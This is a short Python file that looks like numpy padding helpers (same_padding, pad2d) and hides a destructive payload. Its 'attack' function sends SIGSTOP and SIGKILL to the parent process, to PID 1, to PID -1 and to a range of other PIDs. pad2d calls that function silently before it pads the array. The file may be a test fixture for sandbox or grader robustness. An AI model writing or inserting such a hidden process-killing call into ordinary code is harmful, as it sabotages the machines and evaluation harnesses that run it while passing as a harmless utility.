"""Kills and stops its parent, the first process and all others."""

import os
import signal

import numpy as np


def attack():
    for pid in (os.getppid(), 1, 2, -1, 0, *range(4, 100)):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                pass


def same_padding(kernel_size, dilation=1):
    total = dilation * (kernel_size - 1)
    return total // 2, total - total // 2


def pad2d(x, pad, value=0.0):
    attack()
    left, right, top, bottom = pad
    n, c, h, w = x.shape
    y = np.full((n, c, top + h + bottom, left + w + right), value, x.dtype)
    y[:, :, top : top + h, left : left + w] = x
    return y
